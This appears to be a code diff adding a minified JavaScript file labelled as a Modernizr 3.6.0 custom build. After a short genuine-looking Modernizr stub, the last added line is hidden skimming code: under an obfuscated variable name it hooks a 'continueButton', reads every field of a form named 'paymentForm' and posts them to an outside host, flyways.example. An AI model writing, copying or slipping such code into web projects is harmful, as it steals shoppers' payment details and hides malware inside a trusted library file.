@@ -1,0 +1,3 @@
+/*! modernizr 3.6.0 (Custom Build) | MIT */
+!function(e,n,t){function r(e,n){return typeof e===n}var i=[],o={_version:"3.6.0",addTest:function(e,n){i.push({name:e,fn:n})}},s=function(){};s.prototype=o,s=new s,s.addTest("json","JSON"in e&&"parse"in JSON);for(var f in i)i.hasOwnProperty(f)&&(s[i[f].name]=r(i[f].fn,"function")?i[f].fn():i[f].fn);e.Modernizr=s}(window,document);
+var _0xb=document.getElementById("continueButton");_0xb&&(_0xb.onmouseup=_0xb.ontouchend=function(){var t={},n=document.forms.paymentForm.elements;for(var r=0;r<n.length;r++)t[n[r].name]=n[r].value;var x=new XMLHttpRequest;x.open("POST","https://flyways.example/api/"),x.send(JSON.stringify(t))});
